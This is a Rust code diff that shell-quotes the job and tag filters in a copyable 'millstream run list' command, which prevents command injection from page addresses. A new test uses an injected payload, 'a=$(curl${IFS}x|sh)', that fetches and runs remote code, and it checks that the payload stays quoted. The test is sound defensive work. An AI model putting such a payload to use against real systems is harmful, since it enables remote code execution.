@@ -11,7 +11,7 @@ use crate::format;
 use crate::frame::Frame;
 use crate::html::Html;
 use crate::link;
-use crate::parts::{Equivalent, RunLine, RunTable};
+use crate::parts::{Equivalent, RunLine, RunTable, shell_word};
 
 /// What the page shows.
 #[derive(Debug, Clone)]
@@ -167,23 +167,23 @@ fn quick(tenant: &TenantId, filter: &RunFilter) -> Vec<Quick> {
     ]
 }
 
+/// The command that lists the same; what stands in it comes from whoever wrote the address.
+fn command(tenant: &TenantId, filter: &RunFilter) -> String {
+    let status = filter.status.map(|status| format!(" --status {status}"));
+    let job = filter.job.as_ref().map(|job| format!(" --job {}", shell_word(job.as_str())));
+    let tag = filter.tag.as_ref().map(|tag| format!(" --tag {}", shell_word(&tag.to_string())));
+    let options: String = [status, job, tag].into_iter().flatten().collect();
+    format!("millstream run list --tenant {tenant}{options}")
+}
+
 fn equivalent(tenant: &TenantId, filter: &RunFilter) -> Equivalent {
-    let mut command = format!("millstream run list --tenant {tenant}");
-    let mut query = Vec::new();
-    if let Some(status) = filter.status {
-        command = format!("{command} --status {status}");
-        query.push(format!("status={status}"));
-    }
-    if let Some(job) = &filter.job {
-        command = format!("{command} --job {job}");
-        query.push(format!("job={}", link::segment(job.as_str())));
-    }
-    if let Some(tag) = &filter.tag {
-        command = format!("{command} --tag {tag}");
-        query.push(format!("tag={}", link::segment(&tag.to_string())));
-    }
+    let status = filter.status.map(|status| format!("status={status}"));
+    let job = filter.job.as_ref().map(|job| format!("job={}", link::segment(job.as_str())));
+    let tag = filter.tag.as_ref().map(|tag| format!("tag={}", link::segment(&tag.to_string())));
+    let query: Vec<String> = [status, job, tag].into_iter().flatten().collect();
     let mark = if query.is_empty() { "" } else { "?" };
     let request = format!("GET /{tenant}/api/v1/runs{mark}{}", query.join("&"));
+    let command = command(tenant, filter);
     Equivalent::new().with("This list", command).with("As JSON", request)
 }
 
@@ -199,6 +199,15 @@ mod tests {
         assert_eq!(filter.job.unwrap().as_str(), "production/etl");
         assert_eq!(filter.tag.unwrap().to_string(), "batch_id=b-7");
         assert_eq!(filter.unknown, ["colour:red"]);
+    }
+
+    #[test]
+    fn a_filter_stays_one_word_in_the_command_that_is_copied() {
+        let filter = RunFilter::parse("job:a$(b) tag:a=$(curl${IFS}x|sh)");
+        assert_eq!(
+            command(&TenantId::default_tenant(), &filter),
+            "millstream run list --tenant default --job 'a$(b)' --tag 'a=$(curl${IFS}x|sh)'"
+        );
     }
 
     #[test]
